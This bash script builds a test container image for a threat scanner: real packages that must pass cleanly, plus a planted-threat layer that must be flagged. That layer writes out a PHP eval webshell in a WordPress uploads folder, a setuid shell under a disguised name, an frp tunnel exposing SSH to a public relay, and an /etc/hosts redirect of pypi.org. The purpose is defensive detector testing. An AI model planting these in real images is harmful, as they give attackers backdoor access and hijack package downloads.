#!/usr/bin/env bash
# Build one container image from real packages that ship what the threat detectors look for
# (shells, SSH and web servers, PHP apps, tor, proxies, firewall and cron scripts, setuid
# programs), configured as an ordinary image is, plus a layer of planted threats.
# tests/benign_threats.rs scans it: the packages and their configuration must give no high or
# critical finding (and only the low/medium ones tests/benign/README.md lists), the planted
# threats must all be found at high or critical. See tests/benign/README.md.
#
#   bash tests/benign/make-threat-benign-images.sh OUTDIR
#
# Writes:
#   OUTDIR/threats.oci.tar  OCI layout (packed with tar), one image "threats", seven gzip layers:
#                           1 a Debian base (apt-get download + dpkg-deb -x; ping gets its
#                             file capability as iputils-ping's postinst sets it)
#                           2 services: SSH, nginx, Apache with mod_php, PHP, Python, tor,
#                             proxychains, cron, sudo, firewall tools, netcat, socat, curl, ...
#                           3 web applications: WordPress, phpMyAdmin, Adminer, JS libraries
#                           4 Python wheels in /usr/local/lib/python3.11/dist-packages
#                           5 npm packages in /srv/app/node_modules
#                           6 configuration as a Dockerfile writes it: Docker's /etc/hosts and
#                             resolv.conf, sshd_config, a torrc with a SOCKS port, default pages
#                           7 planted threats
#   OUTDIR/packages.tsv     source, package, version, files (one line per package)
#   OUTDIR/planted.tsv      detector id, path in the image (one line per planted threat)
#
# Needs: umoci, python3 (pip), npm, apt-get, dpkg-deb, setcap, GNU coreutils/tar/find.
# Downloads from Debian, PyPI and the npm registry; any failed download is fatal (exit 1).
# Alpine's apk tarballs are not used: the test machines cannot reach dl-cdn.alpinelinux.org.
# BENIGN_CACHE=DIR keeps the downloads in DIR and reuses them on the next run (common.sh).
set -euo pipefail

if [ $# -ne 1 ]; then
    echo "usage: $0 OUTDIR" >&2
    exit 2
fi
. "$(dirname "$0")/common.sh"

# A minimal Debian, as debootstrap lays it down (setuid su, mount, passwd, chsh, ...).
DEBS_BASE=(base-files base-passwd bash dash coreutils login passwd util-linux mount
           libpam-modules-bin iputils-ping netbase debianutils sed grep findutils tar gzip
           procps hostname)
# What images add on top: servers, interpreters, tunnels and proxies people run on purpose,
# and packages whose scripts touch iptables, crontabs, history, resolv.conf and hosts.
DEBS_SERVICES=(openssh-server openssh-client openssh-sftp-server nginx nginx-common
               apache2 apache2-bin apache2-data apache2-utils php8.2-cli php8.2-common
               libapache2-mod-php8.2 php-common python3.11 python3.11-minimal
               libpython3.11-stdlib python3 python3-minimal tor tor-geoipdb torsocks
               obfs4proxy proxychains4 libproxychains4 privoxy stunnel4 haproxy cron sudo
               iptables netcat-openbsd ncat socat curl wget busybox ufw fail2ban logrotate
               rsyslog openvpn resolvconf isc-dhcp-client dnsmasq-base iproute2 rkhunter
               chkrootkit)
# PHP applications served as they are packaged, and the JavaScript they ship.
DEBS_WEB=(wordpress phpmyadmin adminer libjs-jquery libjs-jquery-ui libjs-bootstrap4
          javascript-common php-phpseclib php-twig php-guzzlehttp-guzzle)
DEBS=("${DEBS_BASE[@]}" "${DEBS_SERVICES[@]}" "${DEBS_WEB[@]}")
# Wheels with shell, SSH, tunnel and process-control code (Ansible's cron, iptables and
# authorized_key modules, sshuttle's firewall methods, pyngrok), pinned.
WHEELS=(ansible-core==2.19.14 Django==5.2.19 docker==7.2.0 fabric==3.2.3 invoke==3.0.3
        paramiko==5.1.0 pyngrok==9.1.0 PySocks==1.7.1 sshuttle==1.3.1 supervisor==4.3.0
        gunicorn==27.0.1)
# npm packages, pinned: web frameworks and browser libraries, proxies and tunnels (ngrok's
# and localtunnel's clients), pm2's start-up script templates, shell helpers.
NPMS=(express@5.3.0 jquery@4.0.0 bootstrap@5.3.9 socket.io@4.8.4 http-proxy@1.18.1
      shelljs@0.10.0 ngrok@4.3.3 localtunnel@2.0.2 pm2@7.0.4 node-cron@4.6.0 forever@4.0.3
      global-agent@4.1.6)

benign_init "$1" setcap
# File capabilities travel as SCHILY.xattr records: the pax format, without the access and
# change times GNU tar would add to every entry.
LAYER_TAR_OPTS=(--format=posix --pax-option=delete=atime,delete=ctime --xattrs
                --xattrs-include=security.capability)
fetch_packages

L="$WORK/layout"
new_image "$L" threats
S="$WORK/stage"

C="$WORK/conf"
mkdir -p "$C"

# ---------------------------------------------------------------- layer 1: base
stage_debs "$S" "${DEBS_BASE[@]}"
setcap cap_net_raw+ep "$S/bin/ping"
cp "$S/bin/dash" "$C/dash"
add_layer "$IMG" "$S" "debootstrap --variant=minbase bookworm / http://deb.debian.org/debian"

# ---------------------------------------------------------------- layer 2: services
stage_debs "$S" "${DEBS_SERVICES[@]}"
# Templates the maintainer scripts install from (layer 6).
cp "$S/usr/share/apache2/default-site/index.html" "$C/apache-index.html"
cp "$S/usr/share/nginx/html/index.html" "$C/nginx-index.html"
cp "$S/usr/share/openssh/sshd_config" "$C/sshd_config"
cp "$S/etc/tor/torrc" "$C/torrc"
add_layer "$IMG" "$S" "/bin/sh -c apt-get update && apt-get install -y --no-install-recommends ${DEBS_SERVICES[*]}"

# ---------------------------------------------------------------- layer 3: web applications
stage_debs "$S" "${DEBS_WEB[@]}"
add_layer "$IMG" "$S" "/bin/sh -c apt-get install -y --no-install-recommends ${DEBS_WEB[*]}"

# ---------------------------------------------------------------- layer 4: Python wheels
stage_wheels "$S" usr/local/lib/python3.11/dist-packages "${WHEELS[@]}"
add_layer "$IMG" "$S" "/bin/sh -c pip install --break-system-packages --no-deps ${WHEELS[*]}"

# ---------------------------------------------------------------- layer 5: npm packages
# The install line as NodeSource documents it: a build step piping a download into a shell.
stage_npms "$S" srv/app/node_modules "${NPMS[@]}"
add_layer "$IMG" "$S" "/bin/sh -c curl -fsSL https://deb.nodesource.com/setup_20.x | bash - && apt-get install -y nodejs && cd /srv/app && npm install ${NPMS[*]}"

# ---------------------------------------------------------------- layer 6: configuration
# What the packages' maintainer scripts and an ordinary Dockerfile write: the default web
# pages, sshd_config from its template, a tor client serving the other containers, and
# Docker's own /etc/hosts and resolv.conf (docker commit keeps them).
mkdir -p "$S/var/www/html" "$S/etc/ssh" "$S/etc/tor"
cp "$C/apache-index.html" "$S/var/www/html/index.html"
cp "$C/nginx-index.html" "$S/var/www/html/index.nginx-debian.html"
cp "$C/sshd_config" "$S/etc/ssh/sshd_config"
{ cat "$C/torrc"; printf 'SocksPort 0.0.0.0:9050\nSocksPolicy accept 172.16.0.0/12\nSocksPolicy reject *\n'; } >"$S/etc/tor/torrc"
printf '%s\n' '127.0.0.1	localhost' '::1	localhost ip6-localhost ip6-loopback' 'fe00::0	ip6-localnet' \
    'ff00::0	ip6-mcastprefix' 'ff02::1	ip6-allnodes' 'ff02::2	ip6-allrouters' '172.17.0.2	4f1c2e7d9a3b' \
    >"$S/etc/hosts"
cp "$S/etc/hosts" "$C/hosts"
printf '%s\n' '# Generated by Docker Engine.' \
    '# This file can be edited; Docker Engine will not make further changes once it' \
    '# has been modified.' '' 'nameserver 192.168.65.7' 'search localdomain' 'options ndots:0' '' \
    "# Based on host file: '/etc/resolv.conf' (internal resolver)" '# ExtServers: [host(192.168.65.7)]' \
    '# Overrides: []' '# Option ndots from: internal' >"$S/etc/resolv.conf"
add_layer "$IMG" "$S" "/bin/sh -c cp /usr/share/openssh/sshd_config /etc/ssh/ && echo 'SocksPort 0.0.0.0:9050' >>/etc/tor/torrc"

# ---------------------------------------------------------------- layer 7: planted threats
# Each as found in images on public registries: a China Chopper-style PHP one-liner in the web
# root, a setuid copy of /bin/sh (dash) under a harmless name, an frp client exposing SSH
# through a public relay, and /etc/hosts sending pypi.org to another address.
: >"$OUT/planted.tsv"
plant() { printf '%s\t%s\n' "$1" "$2" >>"$OUT/planted.tsv"; }
mkdir -p "$S/var/www/html/wp-content/uploads/2023" "$S/usr/lib/x86_64-linux-gnu/.cache" "$S/opt/frp" "$S/etc"
printf '%s\n' '<?php @eval($_POST["z0"]);?>' >"$S/var/www/html/wp-content/uploads/2023/cache.php"
plant webshell_php_request_exec /var/www/html/wp-content/uploads/2023/cache.php
cp "$C/dash" "$S/usr/lib/x86_64-linux-gnu/.cache/dbus-update"
chmod 4755 "$S/usr/lib/x86_64-linux-gnu/.cache/dbus-update"
plant setuid-program /usr/lib/x86_64-linux-gnu/.cache/dbus-update
printf '%s\n' '[common]' 'server_addr = 45.137.21.9' 'server_port = 7000' 'token = 8c1a2f6e0b' '' \
    '[ssh]' 'type = tcp' 'local_ip = 127.0.0.1' 'local_port = 22' 'remote_port = 6022' >"$S/opt/frp/frpc.ini"
plant tunnel_frp_client /opt/frp/frpc.ini
{ cat "$C/hosts"; printf '104.248.18.213\tpypi.org files.pythonhosted.org\n'; } >"$S/etc/hosts"
plant hijack_hosts_pinned_domain /etc/hosts
add_layer "$IMG" "$S" "/bin/sh -c /tmp/install.sh && rm /tmp/install.sh"

# ---------------------------------------------------------------- image config, tarball
# An SSH server as the container's command: to be reviewed, not a compromise.
umoci config --image "$IMG" --history.created "$(date -u -d "@$((T0 + 3600))" +%Y-%m-%dT%H:%M:%SZ)" \
    --history.created_by '/bin/sh -c #(nop)  CMD ["/usr/sbin/sshd" "-D" "-e"]' \
    --config.cmd /usr/sbin/sshd --config.cmd -D --config.cmd -e \
    --config.exposedports 22/tcp --config.exposedports 80/tcp --config.exposedports 9050/tcp
write_tarball "$L" threats.oci.tar
echo "$OUT/threats.oci.tar: $(stat -c %s "$OUT/threats.oci.tar") bytes, $(awk -F'\t' '{n += $4} END {print n}' "$OUT/packages.tsv") package files, $(wc -l <"$OUT/planted.tsv") planted threats"
